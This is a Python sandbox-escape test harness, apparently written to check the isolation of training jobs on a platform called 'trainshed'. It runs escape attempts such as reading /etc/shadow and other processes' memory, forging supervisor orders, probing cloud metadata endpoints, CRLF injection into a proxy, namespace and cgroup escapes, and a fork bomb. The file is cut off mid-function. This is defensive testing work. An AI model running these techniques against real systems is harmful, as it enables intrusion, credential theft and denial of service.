"""A trainer that tries to break out of its job, one small function an attempt.

    python hostile.py FACTS [GROUP ...]

It is a program of its own, on the standard library alone, since it runs wherever a job runs: from a
bucket, in a container, inside of a ``setup.py``.  FACTS is a JSON file with what a well-informed
attacker knows of the machine: paths, pids, sockets, addresses (``scene.py`` writes it).  Nothing
that holds only while a path is secret counts as a wall.

Each attempt gives a line of JSON: ``{"attempt": ..., "outcome": ..., "detail": ...}``.  The outcome
is ``done`` (a wall has a hole, or there is none), ``denied``, or ``absent``: this machine has
nothing of the kind.  Nothing that is done does harm: what is written is taken back, signals are
those that nobody hears, and floods have an end.

Some attempts need something of the world around: a crash of the server, a call of a neighbour, a
backup by root.  They write a request into their own bucket, and ``world.py`` does it and answers.

A new attempt is a function with the decorator ``attempt``; it returns what it got, in a few words,
and raises OSError or Denied where it could not.  ``expected.py`` must then say what each mode does.
"""

import contextlib
import ctypes
import fcntl
import functools
import glob
import http.client
import itertools
import json
import mmap
import os
import resource
import signal
import socket
import ssl
import subprocess
import sys
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor

ATTEMPTS = {}
LIBC = ctypes.CDLL(None, use_errno=True)
SECRET = "the secret of beta"
FACTS_S_MAX = 300
REQUESTS = itertools.count()


class Denied(Exception):
    """It could not be done, and no system call says so by itself."""


class Absent(Exception):
    """This machine has nothing of the kind."""


def attempt(group):
    """Register an attempt under its own name."""

    def register(function):
        ATTEMPTS[function.__name__] = (group, function)
        return function

    return register


def read(path, count=1 << 16):
    with open(path, "rb") as file:
        data = file.read(count)
    return f"{len(data)} bytes of {path}"


def count_names(path):
    return f"{len(os.listdir(path))} names in {path}"


def written(folder):
    """Leave a file in a folder, and take it back."""
    path = os.path.join(folder, f"hostile-{os.getpid()}")
    with open(path, "xb") as file:
        file.write(b"import poison")
    os.unlink(path)
    return f"made {path}"


def opened_for_writing(path):
    os.close(os.open(path, os.O_WRONLY))
    return f"opened {path} for writing"


def called(name, *arguments):
    """A function of libc.  Raises OSError."""
    ctypes.set_errno(0)
    function = getattr(LIBC, name)
    function.restype = ctypes.c_long
    status = function(*arguments)
    if status < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return status


def in_child(function, *arguments):
    """What a function gave in a child of its own, which then ends; raises what it raised."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reader)
        try:
            words = [True, function(*arguments)]
        except OSError as error:
            words = [False, error.strerror or str(error)]
        except BaseException as error:
            words = [False, f"{type(error).__name__}: {error}"]
        os.write(writer, json.dumps(words).encode())
        os._exit(0)
    os.close(writer)
    with open(reader, "rb") as file:
        data = file.read()
    os.waitpid(child, 0)
    is_done, words = json.loads(data or b'[false, "it was killed"]')
    if not is_done:
        raise Denied(words)
    return words


def request(facts, words):
    """Have the world around do something; what it answers."""
    place = os.path.join(facts["own_bucket"], f"request-{next(REQUESTS)}")
    with open(f"{place}.draft", "w") as file:
        file.write(words)
    os.rename(f"{place}.draft", place)
    return facts_of(f"{place}.answer")


# ---- files that are somebody else's ----


@attempt("files")
def read_admin_token(facts):
    return read(facts["token"])


@attempt("files")
def read_database(facts):
    return read(facts["database"])


@attempt("files")
def read_tls_key(facts):
    return read(facts["tls_key"])


@attempt("files")
def list_data_directory(facts):
    """Names of what the server keeps there."""
    names = os.listdir(facts["data"])
    if os.path.basename(facts["token"]) not in names:
        raise Denied("only what is its own is there")
    return f"{len(names)} names"


@attempt("files")
def list_buckets(facts):
    """Names of buckets of other projects."""
    names = os.listdir(facts["buckets"])
    if facts["foreign_bucket"].rpartition("/")[2] not in names:
        raise Denied("only its own are there")
    return f"{len(names)} buckets"


@attempt("files")
def read_foreign_bucket(facts):
    return read(facts["foreign_object"])


@attempt("files")
def look_up_foreign_object(facts):
    """Whether it is there, and how large, by a name that a job can guess."""
    return f"{os.stat(facts['foreign_object']).st_size} bytes"


@attempt("files")
def watch_foreign_bucket(facts):
    """The kernel then tells the names of what comes and goes."""
    libc, in_all_events = ctypes.CDLL(None, use_errno=True), 0xFFF
    descriptor = libc.inotify_init()
    if libc.inotify_add_watch(descriptor, facts["foreign_bucket"].encode(), in_all_events) < 0:
        raise OSError(ctypes.get_errno(), "inotify_add_watch")
    os.close(descriptor)
    return "inotify"


@attempt("files")
def change_mode_of_foreign_object(facts):
    """To the mode that it has already."""
    path = facts["foreign_object"]
    os.chmod(path, os.stat(path).st_mode & 0o7777)
    return "chmod"


@attempt("files")
def read_foreign_attempt(facts):
    return read(os.path.join(facts["foreign_attempt"], "plan.json"))


@attempt("files")
def read_foreign_work(facts):
    return read(os.path.join(facts["foreign_attempt"], "work", "secret"))


@attempt("files")
def read_foreign_environment(facts):
    return count_names(facts["foreign_environment"])


@attempt("files")
def read_shadow(_facts):
    return read("/etc/shadow")


@attempt("files")
def read_home_of_server(facts):
    return read(os.path.join(facts["home"], ".netrc"))


@attempt("files")
def read_shared_tmp(facts):
    return read(facts["tmp_file"])


@attempt("files")
def read_shared_memory(facts):
    return read(facts["shared_memory"])


@attempt("files")
def write_foreign_bucket(facts):
    return written(facts["foreign_bucket"])


@attempt("files")
def write_foreign_environment(facts):
    return written(facts["foreign_environment"])


@attempt("files")
def write_environment_cache(facts):
    return written(facts["cache"])


@attempt("files")
def write_own_environment(facts):
    """The next job of the project would import it."""
    if not facts.get("own_environment"):
        raise Absent("it has no packages")
    return written(facts["own_environment"])


@attempt("files")
def write_trainer_library(facts):
    return written(facts["trainer_library"])


@attempt("files")
def write_source(facts):
    return written(facts["source"])


@attempt("files")
def write_interpreter(facts):
    return written(facts["site_packages"])


@attempt("files")
def write_system(_facts):
    return written("/usr/local/bin")


@attempt("files")
def write_kernel_setting(_facts):
    """The value that it has already."""
    path = "/proc/sys/vm/swappiness"
    with open(path) as file:
        value = file.read()
    with open(path, "w") as file:
        file.write(value)
    return path


# ---- what its supervisor keeps ----


def own_attempt():
    """The folder of this attempt, as the replica itself is told."""
    return os.path.dirname(os.path.dirname(os.environ["TRAINSHED_NOTICE_FILE"]))


@attempt("supervisor")
def rewrite_records(_facts):
    return opened_for_writing(os.path.join(own_attempt(), "records.jsonl"))


@attempt("supervisor")
def rewrite_plan(_facts):
    return opened_for_writing(os.path.join(own_attempt(), "plan.json"))


@attempt("supervisor")
def rewrite_lock(_facts):
    return opened_for_writing(os.path.join(own_attempt(), "lock"))


@attempt("supervisor")
def rewrite_log(_facts):
    folder = os.path.join(own_attempt(), "log")
    names = os.listdir(folder)
    return opened_for_writing(os.path.join(folder, names[0]))


@attempt("supervisor")
def plant_files_beside_records(_facts):
    """An order to stop is such a file; so is what the server reads next."""
    return written(own_attempt())


@attempt("supervisor")
def order_supervisor(_facts):
    """Send an order to stop to the control socket; SIGTERM says that it was obeyed."""
    heard = []
    before = signal.signal(signal.SIGTERM, lambda *_: heard.append(1))
    order = {"grace_s": 3600.0, "reason": "cancel", "message": "planted"}
    message = json.dumps({"do": "stop", "order": order}).encode()
    folder = os.open(own_attempt(), os.O_PATH)  # the whole path may be too long for a socket's
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
            sender.sendto(message, f"/proc/self/fd/{folder}/control")
        until = time.monotonic() + 1.0
        while not heard and time.monotonic() < until:
            time.sleep(0.02)
    finally:
        os.close(folder)
        signal.signal(signal.SIGTERM, before)
    if not heard:
        raise Denied("sent, and not obeyed")
    return "the supervisor stops the job"


@attempt("supervisor")
def read_secret_of_orders(_facts):
    return read(os.path.join(own_attempt(), "orders.key"))


@attempt("supervisor")
def read_secret_of_foreign_orders(facts):
    return read(os.path.join(facts["foreign_attempt"], "orders.key"))


@attempt("supervisor")
def order_foreign_supervisor(facts):
    """Have a job of another project stopped, with the secret where that can be read."""
    pid = facts["foreign_job"]["pid"]
    order = {"grace_s": 3600.0, "reason": "cancel", "message": "planted"}
    message = {"do": "stop", "order": order}
    with contextlib.suppress(OSError), open(facts["foreign_attempt"] + "/orders.key") as file:
        message["key"] = json.load(file)
    folder = os.open(facts["foreign_attempt"], os.O_PATH)
    if not os.path.exists(f"/proc/{pid}"):
        raise Denied("its end could not be seen")
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
            sender.sendto(json.dumps(message).encode(), f"/proc/self/fd/{folder}/control")
    finally:
        os.close(folder)
    until = time.monotonic() + 1.0
    while time.monotonic() < until:
        if not os.path.exists(f"/proc/{pid}"):
            return "the supervisor of another project stops its job"
        time.sleep(0.02)
    raise Denied("sent, and not obeyed")


@attempt("supervisor")
def forge_log_of_foreign_job(facts):
    """Send lines to its supervisor, with the secret where that can be read."""
    message = {"do": "log", "task": "master-replica-0", "lines": [["forged by alpha", "ERROR"]]}
    with contextlib.suppress(OSError), open(facts["foreign_attempt"] + "/orders.key") as file:
        message["key"] = json.load(file)
    folder = os.open(facts["foreign_attempt"], os.O_PATH)
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
            sender.sendto(json.dumps(message).encode(), f"/proc/self/fd/{folder}/control")
    finally:
        os.close(folder)
    if "forged by alpha" not in request(facts, "read log of neighbour"):
        raise Denied("sent, and not in its log")
    return "its log has a line of ours"


@attempt("supervisor")
def rewrite_log_of_foreign_job(facts):
    folder = os.path.join(facts["foreign_attempt"], "log")
    return opened_for_writing(os.path.join(folder, os.listdir(folder)[0]))


@attempt("supervisor")
def take_ports_from_holder(facts):
    """Say to the process that keeps the server's ports that this is the next server."""
    message = {"do": "hello"}
    with contextlib.suppress(OSError), open(facts["data"] + "/ports.json") as file:
        message["secret"] = json.load(file)["secret"]
    folder = os.open(facts["data"], os.O_PATH)
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as channel:
            channel.settimeout(30)
            channel.connect(f"/proc/self/fd/{folder}/ports")
            channel.send(json.dumps({"secret": "guessed", **message}).encode())
            if not channel.recv(1 << 12):
                raise Denied("it is cut off")
    finally:
        os.close(folder)
    return "it is taken for the server"


# ---- other processes ----


def targets(function):
    """Make one attempt for each: the server, its ports' holder, the supervisor, a foreign job."""
    for name in ("server", "holder", "supervisor", "foreign_job"):

        def one(facts, name=name):
            if not facts.get(name):
                raise Absent("it is not known yet")
            return function(facts[name]["pid"], facts[name])

        ATTEMPTS[f"{function.__name__}_{name}"] = ("processes", one)
    return function


@targets
def read_environ_of(pid, _process):
    return read(f"/proc/{pid}/environ")


@targets
def read_cmdline_of(pid, _process):
    return read(f"/proc/{pid}/cmdline")


@targets
def read_memory_of(pid, process):
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        file.seek(process["address"])
        return f"{len(file.read(8))} bytes"


@targets
def copy_memory_of(pid, process):
    """With process_vm_readv."""
    data = ctypes.create_string_buffer(8)
    here = (ctypes.c_void_p * 2)(ctypes.cast(data, ctypes.c_void_p).value, 8)
    there = (ctypes.c_void_p * 2)(process["address"], 8)
    count = called("process_vm_readv", pid, here, 1, there, 1, 0)
    return f"{count} bytes"


@targets
def trace(pid, _process):
    """PTRACE_SEIZE, which stops nobody; the end of the child lets go."""
    seize = 0x4206
    return in_child(lambda: called("ptrace", seize, pid, None, None) or "traced")


@targets
def list_descriptors_of(pid, _process):
    return count_names(f"/proc/{pid}/fd")


@targets
def steal_descriptor_of(pid, _process):
    """With pidfd_getfd: its standard output."""
    pidfd_open, pidfd_getfd = 434, 438
    pinned = called("syscall", pidfd_open, pid, 0)
    try:
        os.close(called("syscall", pidfd_getfd, pinned, 1, 0))
    finally:
        os.close(pinned)
    return "its standard output"


@targets
def enter_root_of(pid, _process):
    return count_names(f"/proc/{pid}/root/")


@targets
def enter_folder_of(pid, _process):
    return count_names(f"/proc/{pid}/cwd/")


@targets
def enter_namespaces_of(pid, _process):
    def enter():
        descriptor = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        called("setns", descriptor, 0)
        return "its mounts"

    return in_child(enter)


@targets
def signal_to(pid, _process):
    """SIGWINCH, which is nothing to those who do not handle it."""
    os.kill(pid, signal.SIGWINCH)
    return "SIGWINCH"


@targets
def change_limits_of(pid, _process):
    """To those that it has."""
    limits = resource.prlimit(pid, resource.RLIMIT_NOFILE)
    resource.prlimit(pid, resource.RLIMIT_NOFILE, limits)
    return f"{limits}"


@targets
def slow_down(pid, _process):
    """Give it the priority that it has."""
    os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid))
    return "its priority"


@attempt("processes")
def find_foreign_attempt_in_command_lines(facts):
    """Where its control socket lies, as the first attack had it."""
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            if os.fsencode(facts["foreign_attempt"]) in file.read():
                return path
    raise Denied("no command line has it")


# ---- sockets and ports ----


def connected(kind, address):
    with socket.socket(kind, socket.SOCK_STREAM) as sock:
        sock.settimeout(10)
        sock.connect(address)
    return f"connected to {address!r}"


#: Loopback, and addresses at which networks of jobs and containers have the machine or replicas.
NEAR = (
    "127.0.0.1", "127.0.0.2", "::1",
    "198.18.0.1", "198.18.0.2", "198.18.0.3", "198.18.0.16", "198.18.0.17",
    "10.0.2.2", "10.0.2.100",
)  # fmt: skip


def said_at(address, port):
    """The first bytes of what answers to a request of HTTP; none where nothing does."""
    try:
        with socket.create_connection((address, port), timeout=3) as client:
            client.sendall(b"GET /healthz HTTP/1.0\r\n\r\n")
            return client.recv(1 << 12)
    except OSError:
        return b""


def connected_nearby(facts, port, banner):
    """Look for a TCP port at all addresses that may be the machine's or a neighbour's.

    ``banner`` is in the first bytes that come from there.
    """
    addresses = (*NEAR, *(address.strip("[]") for address in facts["own_addresses"]))
    with ThreadPoolExecutor(len(addresses)) as pool:
        heads = {address: pool.submit(said_at, address, port) for address in addresses}
    reached = [address for address, head in heads.items() if banner in head.result()]
    if reached:
        return f"port {port} of {', '.join(reached)}"
    raise Denied("at no address")


@attempt("sockets")
def connect_to_socket_of_server(facts):
    """A socket file that only the server's user may use, as a container daemon's is."""
    return connected(socket.AF_UNIX, facts["private_socket"])


@attempt("sockets")
def connect_to_docker(facts):
    if not facts.get("docker_socket"):
        raise Absent("no docker runs")
    return connected(socket.AF_UNIX, facts["docker_socket"])


@attempt("sockets")
def connect_to_abstract_socket(facts):
    return connected(socket.AF_UNIX, "\0" + facts["abstract_socket"])


@attempt("sockets")
def connect_to_port_of_foreign_job(facts):
    """It listens at all addresses that it has."""
    return connected_nearby(facts, facts["foreign_port"], b"the port of beta")


@attempt("sockets")
def connect_to_port_of_server(facts):
    return connected_nearby(facts, facts["server_port"], b"HTTP/1")


@attempt("sockets")
def find_way_to_metadata(_facts):
    """Where clouds hand out credentials of the machine; a datagram socket asks for the route."""
    ways, fault = [], None
    named = ("169.254.169.254", "192.0.0.192", "168.63.129.16", "100.100.100.200")
    four = [(host, 80) for host in named]
    six = [("fe80::1", 80, 0, index) for index, _ in socket.if_nameindex()]
    for address in (*four, *six):
        family = socket.AF_INET if len(address) == 2 else socket.AF_INET6
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as asking:
                asking.connect(address)
                ways.append(address[0])
        except OSError as error:
            fault = error
    if not ways:
        raise fault
    return "a way to " + ", ".join(ways)


@attempt("sockets")
def use_api_without_token(facts):
    url = f"http://127.0.0.1:{facts['server_port']}/trainshed/v1/tokens"
    try:
        with urllib.request.urlopen(url, timeout=10) as answer:
            return f"status {answer.status}"
    except urllib.error.HTTPError as error:
        raise Denied(f"status {error.code}") from None
    except urllib.error.URLError as error:
        raise Denied(str(error.reason)) from None


@attempt("neighbours")
def keep_port_from_foreign_job(facts):
    """Listen at a port of its choice, as Ray or torchrun would need it in another job."""
    with socket.create_server(("", 0)) as listener:
        port = listener.getsockname()[1]
        answer = request(facts, f"bind neighbour {port}")
    if answer == "bound":
        raise Denied("the other job has the port as well")
    return f"the other job gets {answer}"


@attempt("neighbours")
def break_server_by_shrinking_file(facts):
    """Truncate an object while a client reads it."""
    path = os.path.join(facts["own_bucket"], "shrinks")
    with open(path, "wb") as file:
        file.truncate(64 << 20)
    request(facts, "begin download")
    os.truncate(path, 0)
    answer = request(facts, "end download")
    if answer:
        return answer
    raise Denied("one line in the server's log")


@attempt("restarts")
def join_foreign_job_unnoticed(facts):
    """Connect to its port, as a second torchrun at one rendezvous does: does its log say so?"""
    with socket.create_connection(("127.0.0.1", facts["foreign_port"]), timeout=10) as client:
        client.recv(1 << 12)
        until = time.monotonic() + facts["watch_s"]
        while time.monotonic() < until:
            if facts["warning"] in request(facts, "read log of neighbour"):
                raise Denied("its log says so")
            time.sleep(1)
    return "its log has no warning"


# ---- the gateway ----


def gateway():
    """Its host and port."""
    place = os.environ.get("GCE_METADATA_HOST")
    if place is None:
        raise Denied("there is no gateway")
    host, _, port = place.rpartition(":")
    return host, int(port)


def said_by_gateway(data):
    """The first line that it answers with."""
    with socket.create_connection(gateway(), timeout=30) as client:
        client.sendall(data)
        return client.recv(1 << 12).split(b"\r\n")[0].decode()


def tunnel(host, port):
    return f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode()


#: Places of this machine, its links and its platform, by what they are.
PLACES = {
    "loopback": ("localhost", "a.localhost", "127.0.0.1", "127.8.8.8", "0.0.0.0", "[::1]", "[::]"),
    "link_local": (
        "169.254.169.254", "192.0.0.192", "168.63.129.16", "[fe80::1]", "[fd00:ec2::254]",
    ),
    "mapped_addresses": (
        "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]",
        "[64:ff9b:1::a9fe:a9fe]", "[::ffff:a9fe:a9fe]", "[2002:7f00:1::]", "[fe80::1%25eth0]",
    ),
    "other_spellings": (
        "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "0", "0xa9fea9fe", "localhost.",
    ),
}  # fmt: skip


def lead_tunnels(places, port):
    """Raises Denied where none is opened."""
    heads = {place: said_by_gateway(tunnel(place, port)) for place in places}
    opened = [place for place, head in heads.items() if " 200 " in head]
    if not opened:
        raise Denied("; ".join(sorted(set(heads.values())))[:200])
    return f"tunnels to {', '.join(opened)}"


for kind, some in PLACES.items():
    ATTEMPTS[f"tunnel_to_{kind}"] = (
        "gateway",
        lambda facts, some=some: lead_tunnels(some, facts["server_port"]),
    )


@attempt("gateway")
def tunnel_to_addresses_of_machine(facts):
    """Those at which other machines reach it."""
    return lead_tunnels(facts["own_addresses"], facts["server_port"])


#: Where a proxy of the tests says that there is something; no machine has the address.
ELSEWHERE = "198.51.100.7"


@attempt("gateway")
def slip_lines_to_proxy(facts):
    """The machine's proxy gets heads with the server's credentials: add a line to one."""
    slips = (
        f"CONNECT {ELSEWHERE}\n:443 HTTP/1.1\r\n\r\n",
        f"CONNECT {ELSEWHERE}:443\nX-Hostile: yes HTTP/1.1\r\n\r\n",
        "CONNECT x\nX-Hostile:443 HTTP/1.1\r\n\r\n",
        "CONNECT x\rX-Hostile:443 HTTP/1.1\r\n\r\n",
        f"CONNECT {ELSEWHERE}%0aX-Hostile:443 HTTP/1.1\r\n\r\n",
        f"CONNECT {ELSEWHERE}:443 HTTP/1.1\r\nHost: x\nX-Hostile: yes\r\n\r\n",
    )
    heads = [said_by_gateway(slip.encode()) for slip in slips]
    for head in request(facts, "read heads of proxy"):
        if "hostile" in head.lower() or "\n" in head.replace("\r\n", ""):
            return f"the proxy got {head!r}"
    raise Denied("; ".join(sorted(set(heads)))[:200])


@attempt("gateway")
def hold_all_tunnels(facts):
    held = []
    try:
        for _ in range(facts["tunnels"]):
            client = socket.create_connection(gateway(), timeout=30)
            held.append(client)
            client.sendall(tunnel(ELSEWHERE, 443))
            if b" 200 " not in client.recv(1 << 12):
                break
        answer = request(facts, "tunnel of neighbour")
    finally:
        for client in held:
            client.close()
    if len(held) < 2 or "200" in answer:
        raise Denied(f"{len(held) - 1} tunnels, and the other job has one")
    return f"the other job gets {answer}"


@attempt("gateway")
def use_up_descriptors_of_server(facts):
    """Connect in a loop, and hold each connection."""
    gateway_at = gateway()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held = []
    try:
        with contextlib.suppress(OSError):
            while len(held) < min(facts["connections"], hard - 100):
                held += [socket.create_connection(gateway_at, timeout=3)]
        answer = request(facts, "call of neighbour")
    finally:
        for client in held:
            client.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    words = f"{len(held)} connections, {answer['descriptors']} descriptors of the server"
    if answer["status"] == 200 and answer["descriptors"] < facts["descriptors_max"]:
        raise Denied(f"{words}; the other job is answered")
    return f"{words}; the other job gets {answer['status']}"


@attempt("gateway")
def send_two_hosts(_facts):
    """Two readers may take different ones."""
    hosts = "Host: metadata.google.internal\r\nHost: storage.googleapis.com\r\n"
    path = "/computeMetadata/v1/project/project-id"
    head = said_by_gateway(
        f"GET {path} HTTP/1.1\r\n{hosts}Metadata-Flavor: Google\r\n\r\n".encode()
    )
    if " 200 " not in head:
        raise Denied(head)
    return head


LOGGING = "logging.googleapis.com"


def certificates():
    """What programs of the job trust."""
    return ssl.create_default_context(cafile=os.environ["REQUESTS_CA_BUNDLE"])


@attempt("gateway")
def lose_log_entries(facts):
    """Write more at once than a server reads: are they taken, and dropped?"""
    host, port = gateway()
    client = http.client.HTTPSConnection(host, port, timeout=60, context=certificates())
    client.set_tunnel(LOGGING, 443)
    entry = {"logName": "projects/p/logs/l", "resource": {"type": "global"}, "textPayload": "x"}
    body = json.dumps({"entries": [entry] * facts["entries"]})
    client.request("POST", "/v2/entries:write", body, {"Content-Type": "application/json"})
    status = client.getresponse().status
    client.close()
    if status != 200:
        raise Denied(f"status {status}")
    return f"{facts['entries']} entries are taken"


@attempt("gateway")
def connect_to_grpc_of_gateway(facts):
    """It takes the name of a socket for the caller: connect with a name of one's own."""
    place = gateway()
    context = certificates()
    context.set_alpn_protocols(["h2"])
    with socket.create_connection(place, timeout=60) as plain:
        plain.sendall(tunnel(LOGGING, 443))
        plain.recv(1 << 12)
        with context.wrap_socket(plain, server_hostname=LOGGING) as client:
            client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0)))
            client.recv(1 << 12)  # now it listens
            names = request(facts, "list sockets of server")
            for name in names:
                with contextlib.suppress(OSError):
                    return connected(socket.AF_UNIX, name.replace("@", "\0", 1))
    raise Denied(f"none of {len(names)} names leads to it")


# ---- its own environment ----


@attempt("environment")
def find_secrets_in_environment(facts):
    """Variables of the server that a job has no use for, its proxy's password among them."""
    names = sorted(
        name
        for name, value in os.environ.items()
        if name in facts["secret_variables"] or facts["proxy_password"] in value
    )
    if not names:
        raise Denied("none of them is there")
    return ", ".join(names)


# ---- privileges ----


@attempt("privileges")
def be_root(_facts):
    if os.geteuid() != 0:
        raise Denied(f"user {os.geteuid()}")
    return "user 0"


@attempt("privileges")
def have_capabilities(_facts):
    with open("/proc/self/status") as file:
        words = dict(line.split(":\t", 1) for line in file if ":\t" in line)
    if not int(words["CapEff"], 16):
        raise Denied("none")
    return words["CapEff"].strip()


@attempt("privileges")
def gain_by_setuid(_facts):
    """Run ``su``, a file of root's with the bit that says so: as whom does it run?"""
    words = ["/bin/su", "-c", "true", "root"]
    with subprocess.Popen(
        words, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ) as child:
        try:
            time.sleep(0.2)  # rights come with the very last step of an exec
            with open(f"/proc/{child.pid}/status") as file:
                uids = next(line.split()[1:] for line in file if line.startswith("Uid:"))
        except OSError:
            return "it is somebody else's process"  # which /proc does not show
        finally:
            child.kill()
    if uids[1] != "0":
        raise Denied(f"it runs as user {uids[1]}")
    return "it runs as root"


@attempt("privileges")
def mount_something(facts):
    def mount():
        called("unshare", 0x00020000)
        called("mount", b"none", os.fsencode(facts["own_folder"]), b"tmpfs", 0, None)
        return "a tmpfs"

    return in_child(mount)


def become_root_of_own():
    """A user namespace in which this process has all capabilities, and a mount namespace."""
    uid, gid = os.getuid(), os.getgid()
    called("unshare", 0x10000000 | 0x00020000)
    for name, text in (
        ("uid_map", f"0 {uid} 1"),
        ("setgroups", "deny"),
        ("gid_map", f"0 {gid} 1"),
    ):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


@attempt("privileges")
def unmount_the_walls(facts):
    """In a user namespace of its own take every mount away, then read what lay below."""

    def look():
        become_root_of_own()
        with open("/proc/self/mounts") as file:
            places = [line.split()[1] for line in file]
        for place in reversed(places):
            if place != "/":
                LIBC.umount2(os.fsencode(place), 2)
        return read(facts["foreign_object"])

    return in_child(look)


@attempt("privileges")
def make_device(facts):
    """A node for the machine's memory."""
    path = os.path.join(facts["own_folder"], "hostile-mem")
    os.mknod(path, 0o600 | 0o020000, os.makedev(1, 1))
    os.unlink(path)
    return "a node for the machine's memory"


@attempt("privileges")
def leave_chroot(facts):
    """The old way: chroot below the current folder, then climb."""

    def climb():
        folder = os.path.join(facts["own_folder"], f"hostile-root-{os.getpid()}")
        os.mkdir(folder)
        os.chroot(folder)
        return "chroot is allowed"

    try:
        return in_child(climb)
    finally:
        for left in glob.glob(os.path.join(facts["own_folder"], "hostile-root-*")):
            os.rmdir(left)


@attempt("privileges")
def read_disk(_facts):
    """The device that the root file system lies on."""
    disks = ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda")
    readable = [disk for disk in disks if os.path.exists(disk)]
    if not readable:
        raise Denied("no disk is there")
    return read(readable[0], 512)


@attempt("privileges")
def read_kernel_log(_facts):
    os.close(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK))
    return "/dev/kmsg"


@attempt("privileges")
def leave_cgroup(_facts):
    """Move to the top, where no limit holds."""

    def leave():
        moved = []
        for path in glob.glob("/sys/fs/cgroup/cgroup.procs") + glob.glob(
            "/sys/fs/cgroup/*/cgroup.procs"
        ):
            with contextlib.suppress(OSError), open(path, "w") as file:
                file.write("0")
                moved.append(path)
        if not moved:
            raise Denied("no cgroup lets it in")
        return f"{len(moved)} trees"

    return in_child(leave)


# ---- devices ----


@attempt("devices")
def open_foreign_gpu(facts):
    """A GPU that another job has."""
    if not facts.get("foreign_gpu"):
        raise Absent("this machine has no second GPU")
    os.close(os.open(facts["foreign_gpu"], os.O_RDWR))
    return facts["foreign_gpu"]


# ---- floods ----


@attempt("floods")
def fork_bomb(facts):
    """So many processes that the limit is met, if there is one; they end by themselves."""
    children = []
    try:
        for _ in range(facts["processes"]):
            child = os.fork()
            if child == 0:
                signal.pause()
                os._exit(0)
            children.append(child)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
        for child in children:
            os.waitpid(child, 0)
    return f"{len(children)} processes"


@attempt("floods")
def fill_disk(facts):
    """As many bytes as it is told to try."""
    path = os.path.join(os.getcwd(), "hostile-flood")
    block = bytes(1 << 20)
    try:
        with open(path, "wb") as file:
            file.writelines(block for _ in range(facts["flood_mib"]))
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)
    return f"{facts['flood_mib']} MiB"


@attempt("floods")
def flood_log(facts):
    line = "x" * 99
    for _ in range(facts["flood_lines"]):
        print(line)
    return f"{facts['flood_lines']} lines"


# ---- calls of the kernel that no trainer needs ----

MACHINE = os.uname().machine


def calls(x86_64, aarch64):
    """Have an attempt's function get the call's number on this machine, after the facts."""

    def wrap(function):
        def one(_facts):
            number = {"x86_64": x86_64, "aarch64": aarch64}.get(MACHINE)
            if number is None:
                raise Absent(f"no such call on {MACHINE}")
            return function(number)

        ATTEMPTS[function.__name__] = ("kernel", one)
        return function

    return wrap


def kernel(number, *words):
    """A system call by its number; what it opened is closed by the end of this process."""
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in words]
    return called("syscall", ctypes.c_long(number), *words)


def words_of(*numbers, size=128):
    """A structure of 32-bit words, filled with zeros."""
    return (ctypes.c_uint32 * (size // 4))(*numbers)


@attempt("kernel")
def make_user_namespace(_facts):
    return in_child(lambda: become_root_of_own() or "root of its own")


@calls(56, 220)
def clone_user_namespace(number):
    """The child would be the first in a namespace; it shares no memory, and exits at once."""

    def clone():
        child = kernel(number, 0x10000000 | signal.SIGCHLD, None, None, None, None)
        if child == 0:
            os._exit(0)
        return "clone"

    return in_child(clone)


@calls(435, 435)
def clone_by_structure(number):
    """With clone3, whose flags lie in memory, where a filter cannot read them."""

    def clone():
        flags, exit_signal = 0x10000000, signal.SIGCHLD
        words = words_of(flags, 0, 0, 0, 0, 0, 0, 0, exit_signal, size=64)
        child = kernel(number, words, 64)
        if child == 0:
            os._exit(0)
        return "clone3"

    return in_child(clone)


@calls(425, 425)
def use_io_uring(number):
    os.close(kernel(number, 1, words_of()))
    return "io_uring_setup"


@calls(248, 217)
def keep_key_in_kernel(number):
    """In the keyring of this process, which ends with it."""
    process_keyring = -2
    return in_child(
        lambda: f"key {kernel(number, b'user', b'hostile', b'secret', 6, process_keyring)}"
    )


@calls(323, 282)
def handle_own_page_faults(number):
    user_mode_only = 1
    os.close(kernel(number, user_mode_only))
    return "userfaultfd"


@calls(321, 280)
def load_into_bpf(number):
    map_create, array = 0, 2
    os.close(kernel(number, map_create, words_of(array, 4, 8, 1), 64))
    return "a map"


@calls(298, 241)
def count_events_of_processor(number):
    """Of this process, the user's part alone."""
    software, exclude_kernel = 1, 1 << 5
    attributes = words_of(software, 128)
    attributes[10] = exclude_kernel
    os.close(kernel(number, attributes, 0, -1, -1, 0))
    return "perf_event_open"


@calls(430, 430)
def open_file_system(number):
    os.close(kernel(number, b"tmpfs", 0))
    return "fsopen"


@attempt("kernel")
def open_by_handle(_facts):
    """A file by its number on the disk: no folder on the way is asked."""
    numbers = {"x86_64": (303, 304), "aarch64": (264, 265)}
    if MACHINE not in numbers:
